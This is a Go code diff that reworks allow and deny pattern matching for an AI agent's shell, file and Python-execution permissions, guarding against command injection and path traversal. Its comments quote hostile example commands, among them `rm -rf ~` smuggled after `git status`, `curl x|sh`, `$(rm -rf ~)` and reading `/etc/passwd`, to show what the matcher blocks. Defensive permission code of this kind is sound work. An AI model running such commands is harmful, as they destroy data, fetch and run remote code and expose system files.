@@ -12,75 +12,82 @@ import (
 // substitution (< >), and subshells or zsh glob qualifiers (( )).
 const shellMeta = ";&|`$<>()"
 
-// Allows reports whether p approves running the command spec with this subject.
-// The rules, strictest first:
+// Allows reports whether p approves running the command spec with this subject (see
+// Subject). The rules, strictest first:
 //
 //   - Execute commands (ClassExecute, and any class this package does not know) are approved
 //     only when p's command part names them literally: `*(*)` or `files.*(*)` never
 //     approves one. MCP tools are execute commands, so `web.*(*)` approves none of them.
-//   - For execute commands a wildcard (`*` or `?`) never matches a shell metacharacter
-//     ; & | ` $ < > ( ), a control character (newline, CR, tab, NUL...), an invisible
-//     format character, U+2028/U+2029 or invalid UTF-8. So `execute_shell(git status*)`
-//     approves `git status --short` but not `git status; rm -rf ~`, `git status && curl x|sh`,
-//     `git status $(rm -rf ~)` or "git status\nrm". Metacharacters written literally in
-//     the pattern still match themselves. A glob approves which program runs, not what its
-//     arguments name: `execute_shell(cat notes/*)` approves `cat notes/a /etc/passwd`.
-//   - For other commands a wildcard matches anything.
-//   - In every class, a glob with a wildcard never approves a subject holding a `..` path
-//     element: two dots with no letter, digit, `_`, `-` or `.` beside them (`%2e` counts as
-//     a dot; for execute commands quotes and backslashes are dropped first, as the shell
-//     drops them). So `write_file(notes/*)` does not approve `notes/../config.toml` and
-//     `execute_python_file(scripts/*)` does not approve `scripts/../x.py`, while
-//     `notes/v1..v2` is fine.
-//   - The glob `**` alone, as in `execute_shell(**)`, approves every subject with no
-//     restriction: it is how a person says "anything at all", and it is never implied.
 //   - A glob without wildcards matches exactly its text, so exact patterns (AlwaysPattern)
-//     approve exactly what they name.
+//     approve exactly what they name, and the glob `**` alone, as in `execute_shell(**)`,
+//     approves every subject: it is how a person says "anything at all", never implied.
+//   - execute_shell: the line is parsed as /bin/sh would (see parseShell); a glob with a
+//     wildcard approves it only when it is plain (simple commands of literal words joined by
+//     ; && || | and newlines) and every simple command matches one of the glob's commands
+//     word by word (see splitWords): `execute_shell(git status*)` approves `git status -s`
+//     and `git status && git status`, never `git status-x`, `git status $(x)` or `git -c
+//     k=v status`. The program is matched by its resolved name (/bin/rm, \rm, 'rm' are
+//     rm; ./rm is not). A word a wildcard stands for never holds a `..` path element, a
+//     control or invisible character, and never makes one of the risky forms (see risks):
+//     runners such as sh, env, xargs or sudo, find -exec, git -c, and so on.
+//   - File commands (read_file, write_file, append_to_file, delete_file, open_file,
+//     list_folder, open_folder, search_files) match the cleaned workspace-relative path
+//     (./a//b is a/b); a path that leaves the workspace or is absolute is never approved.
+//   - execute_python_file matches its cleaned path and its args as words, like a shell
+//     command: `execute_python_file(scripts/*)` approves scripts without args,
+//     `execute_python_file(scripts/build.py *)` that script with any.
+//   - Other execute commands: a wildcard never matches a shell metacharacter ; & | ` $ < >
+//     ( ), a control or invisible character, or invalid UTF-8.
+//   - In every class, a glob with a wildcard never approves a subject holding a `..` path
+//     element: two dots with no letter, digit, `_`, `-` or `.` beside them (`%2e` counts).
 func (p Pattern) Allows(spec commands.Spec, subject string) bool {
-	if p.IsZero() {
-		return false
-	}
-	exec := isExecute(spec.Class)
-	if exec && !p.literalCommand() {
-		return false
-	}
-	if !matchGlob(p.cmd, spec.Name, anyRune) {
-		return false
-	}
-	if p.anything {
-		return true
-	}
-	if p.wild() && traversal(subject, exec) {
-		return false
-	}
-	ok := anyRune
-	if exec {
-		ok = plainRune
-	}
-	return matchGlob(p.subj, subject, ok)
+	return p.allows(newTarget(spec, subject))
 }
 
 // Denies reports whether p, as a deny pattern, covers the command spec with this subject.
 // Deny patterns are not restricted: wildcards match every character and a wildcard command
-// part covers execute commands too, since a broader deny only asks a person more often.
-// A deny pattern is a convenience, not a sandbox: it matches the subject's text, and a
-// command line can name the same thing in other words.
+// part covers execute commands too. They match more than the subject's text, so that
+// another spelling of the same thing is refused too:
+//
+//   - execute_shell: every command the line may run (see denyCommands), word by word with
+//     the program's resolved name (`rm *` covers /bin/rm, \rm, r""m, X=1 rm, rm<TAB>-rf,
+//     sh -c 'rm x', $(rm x)) and as text, besides the line's own text.
+//   - File commands: the cleaned path besides the text, and a deny naming one command of a
+//     family (read_file, open_file, list_folder, open_folder, search_files; or write_file,
+//     append_to_file, delete_file) covers them all. A search or a folder listing is covered
+//     when it could reach a path the deny glob matches (`read_file(secrets/*)` covers
+//     search_files(**) and list_folder(secrets)).
 func (p Pattern) Denies(spec commands.Spec, subject string) bool {
-	if p.IsZero() || !matchGlob(p.cmd, spec.Name, anyRune) {
-		return false
-	}
-	return p.anything || matchGlob(p.subj, subject, anyRune)
+	return p.denies(newTarget(spec, subject))
 }
 
 // AppliesTo reports whether p, as an allow pattern (allow true) or a deny pattern, can
-// decide some proposal of the command spec: its command part matches the name, and an
-// allow pattern for an execute command names it literally. It is how agentctl shows which
-// patterns bear on each command; whether one matches a proposal depends on its subject.
+// decide some proposal of the command spec: its command part matches the name (for a deny,
+// also another command of its file family), and an allow pattern for an execute command
+// names it literally. It is how agentctl shows which patterns bear on each command; whether
+// one matches a proposal depends on its subject.
 func (p Pattern) AppliesTo(spec commands.Spec, allow bool) bool {
-	if p.IsZero() || !matchGlob(p.cmd, spec.Name, anyRune) {
+	if allow {
+		return p.namesCommand(spec) && (!isExecute(spec.Class) || p.literalCommand())
+	}
+	return p.coversCommand(spec)
+}
+
+// namesCommand reports whether p's command part matches spec's name.
+func (p Pattern) namesCommand(spec commands.Spec) bool {
+	return !p.IsZero() && matchGlob(p.cmd, spec.Name, anyRune)
+}
+
+// coversCommand is namesCommand for deny patterns: a literal name covers its file family.
+func (p Pattern) coversCommand(spec commands.Spec) bool {
+	if p.namesCommand(spec) {
+		return true
+	}
+	if p.IsZero() || !p.literalCommand() {
 		return false
 	}
-	return !allow || !isExecute(spec.Class) || p.literalCommand()
+	f := families[p.cmd[0].lit]
+	return f != "" && f == families[spec.Name]
 }
 
 // isExecute reports whether class gets the execute rules; unknown classes do, to be safe.
